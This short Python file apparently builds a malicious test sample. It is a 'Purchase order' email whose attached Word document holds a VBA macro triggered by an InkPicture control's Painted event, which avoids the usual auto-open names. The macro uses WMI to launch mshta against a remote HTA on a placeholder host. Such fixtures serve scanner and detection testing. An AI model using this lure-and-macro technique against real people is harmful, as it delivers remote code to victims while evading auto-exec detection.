"""A macro that runs when a control is drawn, and none that is called open."""
from kit import *

SOURCE = '''Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As MSINKAUTLib.IInkRectangle)
    GetObject("winmgmts:Win32_Process").Create "mshta http://files.example.invalid/a.hta"
End Sub
'''


def make():
    return (Mail("Purchase order", "po@example.net").text("See attached.\n").attach("po.doc", office.doc(SOURCE)).bytes())
